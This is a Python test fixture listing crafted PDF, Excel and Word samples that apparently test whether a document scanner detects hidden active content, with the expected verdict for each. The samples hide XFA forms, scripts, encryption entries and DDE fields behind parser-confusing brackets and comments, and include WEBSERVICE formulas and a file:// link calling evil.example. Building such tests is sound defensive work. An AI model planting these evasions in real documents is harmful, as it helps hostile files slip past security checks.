"""Documents whose parts some readers find and others take for text: each with its verdict."""

from tests.backend.hostile_documents import DOCX, JS, PDF, XLSX, Made
from tests.backend.papers_made import docx, formula, objects_in_stream, packed, pdf, stream

HIDDEN: dict[str, tuple[str, Made, str]] = {
    "pdf with a form behind a bracket that is none": (
        PDF, lambda: pdf(catalog=b"/AcroForm<</A#28 1/XFA 5 0 R/B#29 1>>"), "FILE_PROGRAM"),
    "pdf with a form behind a remark that is none": (
        PDF, lambda: pdf(catalog=b"/AcroForm<</A#25 1/XFA 5 0 R>>"), "FILE_PROGRAM"),
    "pdf with a form behind a bracket in a text": (
        PDF, lambda: pdf(catalog=b"/AcroForm<</A(a%)/XFA 5 0 R/B(b%(\n))>>"), "FILE_PROGRAM"),
    "pdf with a form behind a bracket, in a stream": (
        PDF, lambda: pdf(objects_in_stream(b"<</A#28 1/XFA 9 0 R/B#29 1>>")), "FILE_PROGRAM"),
    "pdf with a script in a stream that says obj": (
        PDF, lambda: pdf(packed(b"/N 1/First 4/A(obj)", JS)), "FILE_PROGRAM"),
    "pdf with an address elsewhere in it": (
        PDF, lambda: pdf(b"<</S/URI/URI 6 0 R>>", b"(file://evil.example/a)"), "FILE_LINKS"),
    "pdf with an address behind a remark": (
        PDF, lambda: pdf(b"<</S/URI/URI%a\n(file://evil.example/a)>>"), "FILE_LINKS"),
    "excel that asks the web between odd names": (
        XLSX, lambda: formula("'\"'!A1&amp;_xlfn.WEBSERVICE(\"https://evil.example\")"
                              "&amp;'\"'!A1"), "FILE_LINKS"),
    "excel that asks the web between odd columns": (
        XLSX, lambda: formula('T[a"b]&amp;_xlfn.WEBSERVICE("https://evil.example")&amp;T[a"b]'),
        "FILE_LINKS"),
    "word with dde beside another's instruction": (
        DOCX, lambda: docx('<w:fldSimple xmlns:x="x" x:instr="DATE" w:instr="DDE a b"/>'),
        "FILE_BROKEN"),
    "word with dde that begins beside another's end": (
        DOCX, lambda: docx('<w:fldChar xmlns:x="x" w:fldCharType="begin"/><w:instrText>DATE'
                           '</w:instrText><w:fldChar xmlns:x="x" x:fldCharType="begin"'
                           ' w:fldCharType="end"/>'), "FILE_BROKEN"),
    "word with dde that never ends": (
        DOCX, lambda: docx('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE a b</w:instrText>'),
        "FILE_LINKS"),
    "pdf with a stream in a remark": (
        PDF, lambda: pdf(catalog=b"/A 1 %stream\n/AcroForm<</XFA 5 0 R>>\n%endstream\n"),
        "FILE_BROKEN"),
    "pdf with a stream in a text": (
        PDF, lambda: pdf(catalog=b"/A(stream\n)/AcroForm<</XFA 5 0 R>>/B(endstream)"),
        "FILE_BROKEN"),
    "pdf with an object between brackets": (
        PDF, lambda: pdf(b"1 endobj (", b"<</XFA 9 0 R>>", b"1 endobj )"), "FILE_BROKEN"),
    "pdf with an object in a plain stream": (
        PDF, lambda: pdf(stream(b"", b"8 0 obj<</XFA 9 0 R>>endobj")), "FILE_BROKEN"),
    "pdf with a trailer in a plain stream": (
        PDF, lambda: pdf(stream(b"", b"trailer <</Encrypt 9 0 R>>")), "FILE_BROKEN"),
    "pdf with an object between brackets in a stream": (
        PDF, lambda: pdf(packed(b"/Type/ObjStm/N 1/First 5", b"90 1 (<</XFA 9 0 R>>)")),
        "FILE_BROKEN"),
    "locked pdf behind a bracket that is none": (
        PDF, lambda: pdf(b"<<>>", trailer=b"/A#28 1/Encrypt 5 0 R/B#29 1"), "FILE_ENCRYPTED"),
}  # fmt: skip
